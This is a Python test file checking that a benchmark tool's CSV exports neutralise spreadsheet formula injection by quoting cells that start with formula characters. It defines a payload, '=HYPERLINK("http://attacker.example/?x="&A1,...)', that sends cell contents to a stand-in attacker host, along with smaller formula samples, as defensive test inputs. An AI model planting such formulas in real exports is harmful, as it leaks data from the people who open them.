"""CSV exports neutralise cells a spreadsheet would evaluate (formula injection): model- and
data-provided text starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
single quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

from fakeserver import FakeServer, RecordedRequest
from mtmcs.engine.run import run_benchmark
from mtmcs.files import csv_cell, csv_row
from mtmcs.report.breakdowns import category_breakdown, render_breakdowns_csv
from mtmcs.report.export import read_run_records, write_exports
from mtmcs.report.leaderboard import (
    RunSummary,
    leaderboard_rows,
    load_runs,
    render_csv,
)
from mtmcs.scoring.runfiles import RunMetadata, Summary
from test_breakdowns import record
from test_run_e2e import JUDGE_REPLY, config, kind_of

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
PLUS = "+1+1"
AT = "@SUM(1+1)"


def test_cells_starting_like_a_formula_are_quoted_numbers_are_not() -> None:
    texts = [HYPERLINK, PLUS, "-2+3", AT, "\t=1", "\r=1", "-0.5"]
    assert [csv_cell(text) for text in texts] == ["'" + text for text in texts]
    assert csv_row([None, 0, -0.5, -3, 1.25, "plain", "a=b", ""]) == [
        "",
        0,
        -0.5,
        -3,
        1.25,
        "plain",
        "a=b",
        "",
    ]


def hostile_reply(request: RecordedRequest) -> str:
    kind = kind_of(request)
    if kind == "mcq":
        return "A"
    if kind == "tf":
        return "True"
    if kind == "turn":
        users = sum(m["role"] == "user" for m in request.body["messages"])
        return (HYPERLINK, PLUS, AT)[users % 3]
    return JUDGE_REPLY


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_run_with_formula_replies_exports_quoted_csv_cells(
    fake_server: Callable[..., FakeServer], tmp_path: Path
) -> None:
    server = fake_server(hostile_reply)
    out = tmp_path / AT  # the run's name, shown in every export
    result = run_benchmark(config(server, out))
    assert result.complete

    runs = load_runs([out])
    [written] = write_exports([read_run_records(runs[0])], tmp_path, ["csv"])
    dialogues = rows_of(written.read_text(encoding="utf-8"))
    assert dialogues
    replies = [v for row in dialogues for k, v in row.items() if k.startswith("reply_") and v]
    assert {HYPERLINK, PLUS, AT} <= {reply[1:] for reply in replies}
    assert all(reply.startswith("'") for reply in replies), replies
    assert all(row["run"] == "'" + AT for row in dialogues)

    leaderboard = rows_of(render_csv(leaderboard_rows(runs)))
    ours = [row for row in leaderboard if row["source"] != "published"]
    assert ours and all(row["run"] == "'" + AT for row in ours)
    numbers = [row[k] for row in ours for k in row if k.endswith("_n") and row[k]]
    assert numbers and not any(value.startswith("'") for value in numbers)


def test_breakdown_csv_quotes_model_and_category_labels() -> None:
    summary = Summary(metadata=RunMetadata(model=PLUS, judge="j", splits=()))
    run = RunSummary(Path("m"), "m", summary)
    records = [record(0, "unsafe", 5, harm="x"), record(0, "safe", 4, harm="x")]
    table = category_breakdown([(run, records)], {"x": HYPERLINK}.get, "test")
    rows = list(csv.reader(io.StringIO(render_breakdowns_csv([table]))))[1:]
    assert rows
    for _, model, _, group, _, value, *_ in rows:
        assert model == "'" + PLUS and group == "'" + HYPERLINK
        assert not value.startswith("'")
